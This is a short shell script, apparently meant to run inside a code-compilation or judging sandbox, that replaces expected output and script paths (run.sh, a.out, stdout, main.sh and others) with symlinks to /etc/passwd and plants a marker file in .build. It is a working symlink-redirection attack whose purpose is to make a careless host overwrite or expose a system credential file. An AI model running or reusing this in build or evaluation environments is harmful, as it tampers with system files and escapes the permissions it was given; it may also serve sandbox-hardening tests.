# Run as a compiler: links where a careless host would write the script, the program or the source of the next step.
for name in run.sh run a.out stdin stdout compile_output metadata; do
    ln -s /etc/passwd "$name"
done
ln -sf /etc/passwd main.sh
echo planted > .build/report
